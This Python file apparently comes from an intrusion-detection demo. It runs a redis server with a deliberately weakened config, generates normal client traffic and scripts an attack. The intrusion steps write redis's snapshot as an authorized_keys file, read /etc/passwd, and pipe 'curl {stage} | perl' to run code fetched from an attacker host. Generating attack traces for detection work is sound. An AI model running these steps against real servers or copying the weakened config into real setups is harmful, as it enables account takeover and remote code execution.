"""redis, and an intruder who makes it write files."""

import random
import socket
import threading
import time
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from functools import partial

from baseline.demo.attacker import attacker
from baseline.demo.service import Service, Step

_PAUSE = 0.002
"""Seconds between commands of one client."""


class Redis(Service):
    """redis-server with snapshots and an append-only file."""

    name = "redis"
    packages = "redis-server curl"

    def prepare(self) -> None:
        """Decide on its options."""
        options = {
            "port": self.port,
            "bind": "127.0.0.1",
            "dir": self.folder,
            "appendonly": "yes",
            # So that the file is rewritten every few seconds, not for the first time after an hour:
            # what is not seen in learning is not normal.
            "auto-aof-rewrite-min-size": "1mb",
            "save": "5 100",
            # As before redis 7, so that clients can say where files go: the hole.
            "enable-protected-configs": "yes",
        }
        self._options = [str(w) for name, value in options.items() for w in (f"--{name}", value)]

    def launch(self) -> None:
        """Start it and return when it answers."""
        self.process = self.cgroup.start(["/usr/bin/redis-server", *self._options])
        self.await_port()

    def work(self, stop: threading.Event) -> None:
        """One client that stays, and short ones now and then."""
        choose = random.Random(0)  # noqa: S311 - not for secrets
        with RedisClient(self.port) as staying:
            while not stop.is_set():
                key = f"key:{choose.randrange(1000)}"
                kind = choose.random()
                if kind < 0.5:
                    staying.command("GET", key)
                elif kind < 0.8:
                    staying.command("SET", key, "x" * choose.randrange(1, 2000))
                elif kind < 0.9:
                    staying.command("LPUSH", f"list:{choose.randrange(10)}", key)
                elif kind < 0.95:
                    staying.command("EXPIRE", key, "3")
                else:
                    with RedisClient(self.port) as short:
                        short.command("INFO")
                time.sleep(_PAUSE * choose.expovariate(1))

    @contextmanager
    def intrusion(self) -> Iterator[Sequence[Step]]:
        """Files through redis's own commands, then a shell inside the cgroup."""
        with attacker() as stage:
            yield [
                Step("has redis write a file elsewhere", self.write_elsewhere),
                Step("has a shell in the cgroup", partial(self._shell, "id; cat /etc/passwd")),
                Step(
                    f"downloads a tool from {stage}",
                    partial(self._shell, f"curl -s -o /dev/null {stage}"),
                ),
                Step(
                    "runs a program from memory that is in no file",
                    partial(self._shell, f"curl -s {stage} | perl"),
                ),
            ]

    def write_elsewhere(self) -> None:
        """Have redis put its snapshot where it would be the keys of an account."""
        elsewhere = self.folder / "elsewhere"
        elsewhere.mkdir(exist_ok=True)
        with RedisClient(self.port) as client:
            client.command("CONFIG", "SET", "dir", str(elsewhere))
            client.command("CONFIG", "SET", "dbfilename", "authorized_keys")
            client.command("SAVE")

    def _shell(self, command: str) -> None:
        self.cgroup.run(["/bin/sh", "-c", command])


class RedisClient:
    """A client that speaks as much of redis's protocol (RESP) as is needed here."""

    def __init__(self, port: int, address: str = "127.0.0.1") -> None:
        """Connect from a loopback address."""
        self._socket = socket.create_connection(("127.0.0.1", port), 10, (address, 0))

    def __enter__(self) -> "RedisClient":
        return self

    def __exit__(self, *_: object) -> None:
        self.close()

    def close(self) -> None:
        """Hang up."""
        self._socket.close()

    def command(self, *words: str) -> bytes:
        """Send a command and wait until an answer begins to come; returns its beginning."""
        self._socket.sendall(_encoded(words))
        return self._socket.recv(65536)

    def pipeline(self, *commands: str) -> None:
        """Send commands at once, each a line of words, and read all the answers."""
        self._socket.sendall(b"".join(_encoded(c.split()) for c in (*commands, "ECHO done")))
        answer = b""
        while not answer.endswith(b"done\r\n"):
            if not (more := self._socket.recv(65536)):
                raise ConnectionError("redis hung up")
            answer = answer[-6:] + more


def _encoded(words: Sequence[str]) -> bytes:
    parts = "".join(f"${len(word)}\r\n{word}\r\n" for word in words)
    return f"*{len(words)}\r\n{parts}".encode()
